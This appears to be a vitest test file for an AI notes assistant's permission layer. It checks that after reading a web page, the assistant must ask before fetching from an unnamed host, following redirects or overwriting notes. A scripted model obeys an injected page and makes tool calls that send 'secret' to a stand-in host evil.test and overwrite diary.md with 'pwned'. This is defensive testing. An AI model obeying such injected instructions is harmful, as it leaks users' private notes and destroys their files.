// A page that misleads the model: real tools on a real vault and a small web. The model is scripted to obey the page.
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Decision } from '@parley/protocol';
import {
  callTool,
  lastToolResults,
  noFallback,
  reply,
  resultText,
  searchWeb,
  startAnthropicStandIn,
  startWebSiteStandIn,
} from '@parley/stand-ins';
import { describe, expect, it, onTestFinished } from 'vitest';
import { notes } from '../../src/assistants/notes.ts';
import { systemClock } from '../../src/domain/clock.ts';
import type { CautionLevel } from '../../src/engines/messages-api/caution.ts';
import { createMessagesApiEngine } from '../../src/engines/messages-api/engine.ts';
import { openSqliteStore } from '../../src/stores/sqlite/store.ts';
import { createVaultTools } from '../../src/tools/vault/source.ts';
import { createWebTools } from '../../src/tools/web/source.ts';
import { openGateway } from '../support/open-gateway.ts';

const deny: Decision = { behavior: 'deny', message: 'No.' };
const once: Decision = { behavior: 'allow', scope: 'once' };
const forSession: Decision = { behavior: 'allow', scope: 'session' };

describe('a turn that has read a page', () => {
  it('asks before it sends a note away, overwrites one or follows a redirect to a stranger [notes.tools.ask-after-reading]', async () => {
    const house = await openHouse();
    house.model.enqueue(
      reply(callTool('web_fetch', { url: house.page('/odd/injection') })),
      reply(callTool('read_file', { path: 'diary.md' })),
      reply(
        callTool('web_fetch', { url: house.evil('/odd/headers?d=secret') }),
        callTool('web_fetch', {
          url: house.page(`/odd/redirect?to=${encodeURIComponent(house.evil('/?d=secret'))}`),
        }),
        callTool('write_file', { path: 'diary.md', content: 'pwned' }),
        callTool('write_file', { path: 'new.md', content: 'A summary' }),
      ),
      reply('Done.'),
    );
    const { asked, outcome } = await house.prompt(`Summarize ${house.page('/odd/injection')}`, deny);

    expect(outcome).toBe('completed');
    expect(asked).toEqual([
      expect.stringMatching(/^Fetch a page from evil\.test\? .* text from strangers and private content/),
      expect.stringMatching(/^Replace diary\.md\?/),
    ]);
    expect(house.site.requests.filter((path) => /^[^?]*\?d=secret/.test(path))).toEqual([]);
    expect(await house.read('diary.md')).toBe('Dear diary');
    expect(await house.read('new.md')).toBe('A summary');
    const results = house.results();
    expect(results).toEqual([
      'The person did not allow this. No.',
      expect.stringContaining(
        `redirects to another host. Fetch this address to read it: ${house.evil('/?d=secret')}`,
      ),
      'The person did not allow this. No.',
      expect.stringContaining('Created "new.md"'),
    ]);
  });

  it('does what the person allows, and asks again for each host and each turn [notes.tools.ask-after-reading]', async () => {
    const house = await openHouse();
    const fetchEvil = callTool('web_fetch', { url: house.evil('/') });
    house.model.enqueue(
      reply(callTool('web_fetch', { url: house.page('/') })),
      reply(fetchEvil),
      reply(fetchEvil, callTool('write_file', { path: 'diary.md', content: 'New' })),
      reply('Done.'),
    );
    const first = await house.prompt(`Read ${house.page('/')}`, forSession);

    expect(first.asked).toHaveLength(2);
    expect(await house.read('diary.md')).toBe('New');
    house.model.enqueue(reply(callTool('list_directory')), reply(fetchEvil), reply('Done.'));
    const second = await house.prompt('Again', once);
    expect(second.asked).toEqual([
      expect.stringMatching(/^Fetch a page from evil\.test\? .* private content/),
    ]);
  });

  it('refuses with a message where nobody can be asked [notes.tools.refuse-after-reading]', async () => {
    const house = await openHouse();
    house.model.enqueue(
      reply(callTool('web_fetch', { url: house.page('/') })),
      reply(
        callTool('web_fetch', { url: house.evil('/') }),
        callTool('write_file', { path: 'diary.md', content: 'pwned' }),
      ),
      reply('Done.'),
    );
    const { asked, notices } = await house.prompt(`Read ${house.page('/')}`, deny, { canAsk: false });

    expect(asked).toEqual([]);
    expect(notices).toHaveLength(2);
    expect(house.results()).toEqual([
      expect.stringMatching(/^Not done: Fetch a page from evil\.test\..* name evil\.test in their message/),
      expect.stringMatching(/^Not done: Replace diary\.md\..* in a message of its own/),
    ]);
    expect(await house.read('diary.md')).toBe('Dear diary');
  });

  it('fetches what a search found and hosts that the person named without asking', async () => {
    const house = await openHouse();
    house.model.enqueue(
      reply(callTool('read_file', { path: 'diary.md' }), callTool('web_search', { query: 'tomatoes' })),
      reply(callTool('web_fetch', { url: `${house.site.url}/gardening/tomatoes.html` })),
      reply(
        ...searchWeb('mills', { title: 'Mill', url: house.evil('/willowbrook/') }),
        callTool('web_fetch', { url: house.evil('/willowbrook/') }),
      ),
      reply(callTool('web_fetch', { url: house.page('/cooking/') })),
      reply('Done.'),
    );
    const { asked } = await house.prompt('What does www.pages.test say about tomatoes?', deny);

    expect(asked).toEqual([]);
  });
});

describe('a turn that has read only notes', () => {
  const edit = [
    reply(callTool('read_file', { path: 'diary.md' })),
    reply(callTool('write_file', { path: 'diary.md', content: 'Dear diary, eggs' })),
    reply('Done.'),
  ];

  it('changes them without asking', async () => {
    const house = await openHouse();
    house.model.enqueue(...edit);

    expect((await house.prompt('Add eggs to my diary.md', deny)).asked).toEqual([]);
    expect(await house.read('diary.md')).toBe('Dear diary, eggs');
  });

  it('asks with the setting `strict`, and never with `off`', async () => {
    const strict = await openHouse('strict');
    strict.model.enqueue(...edit);
    expect((await strict.prompt('Add eggs', deny)).asked).toEqual([
      expect.stringMatching(/^Replace diary\.md\?/),
    ]);

    const off = await openHouse('off');
    off.model.enqueue(reply(callTool('web_fetch', { url: off.evil('/') })), ...edit);
    expect((await off.prompt('Add eggs', deny)).asked).toEqual([]);
    expect(await off.read('diary.md')).toBe('Dear diary, eggs');
  });

  it('asks before it fetches from a host that only looks like a named one', async () => {
    const house = await openHouse();
    house.model.enqueue(
      reply(callTool('read_file', { path: 'diary.md' })),
      reply(callTool('web_fetch', { url: house.evil('/').replace('evil.test', 'readme.md') })),
      reply('Done.'),
    );

    expect((await house.prompt('Compare readme.md with notevil.test', deny)).asked).toHaveLength(1);
  });
});

async function openHouse(caution: CautionLevel = 'normal') {
  const folder = await mkdtemp(join(tmpdir(), 'parley-injection-'));
  const vault = join(folder, 'petra');
  await mkdir(vault);
  await writeFile(join(vault, 'diary.md'), 'Dear diary');
  const model = await startAnthropicStandIn({ fallback: noFallback });
  const site = await startWebSiteStandIn();
  const { port } = new URL(site.url);
  const names = ['pages.test', 'evil.test', 'readme.md'];
  const sources = [
    createVaultTools({ root: (person) => join(folder, person) }),
    createWebTools({
      search: { service: 'searxng', baseUrl: site.url },
      exceptions: [site.host, ...names.map((name) => `${name}:${port}`)],
      lookup: () => Promise.resolve(['127.0.0.1']),
    }),
  ];

  const engine = createMessagesApiEngine({
    apiKey: 'key',
    baseUrl: model.url,
    model: 'claude-sonnet-5-5',
    assistants: new Map([[notes.name, notes]]),
    toolSources: new Map(sources.map((source) => [source.name, source])),
    caution,
    clock: systemClock,
  });
  const store = await openSqliteStore({ file: ':memory:' });
  const gateway = openGateway({ store, engines: [engine] });
  onTestFinished(async () => {
    await gateway.close();
    await store.close();
    await Promise.all([model.close(), site.close(), rm(folder, { recursive: true, force: true })]);
  });
  const session = await gateway.createSession('petra', { engine: 'messages-api', assistant: 'notes' });

  /** Settles every permission in the same way until the turn ends. */
  async function prompt(text: string, decision: Decision, options: { readonly canAsk?: false } = {}) {
    const { turnId, after } = await gateway.prompt({
      person: 'petra',
      session: session.id,
      prompt: [{ type: 'text', text }],
      door: 'test',
      ...options,
    });
    const asked: (string | undefined)[] = [];
    const notices: string[] = [];
    for await (const { event, turnId: of } of gateway.subscribe('petra', session.id, { after })) {
      if (event.type === 'notice') notices.push(event.message);
      if (event.type === 'turn.ended' && of === turnId) return { asked, notices, outcome: event.outcome };
      if (event.type !== 'permission.asked') continue;
      asked.push(event.request.description);
      await gateway.decide('petra', session.id, event.id, decision);
    }
    throw new Error('the turn did not end');
  }

  return {
    model,
    site,
    prompt,
    page: (path: string) => `http://pages.test:${port}${path}`,
    evil: (path: string) => `http://evil.test:${port}${path}`,
    read: (name: string) => readFile(join(vault, name), 'utf8'),
    /** The last results that the model got. */
    results: () => {
      const request = model.conversations.at(-1);
      return request === undefined ? [] : lastToolResults(request.body).map((block) => resultText(block));
    },
  };
}
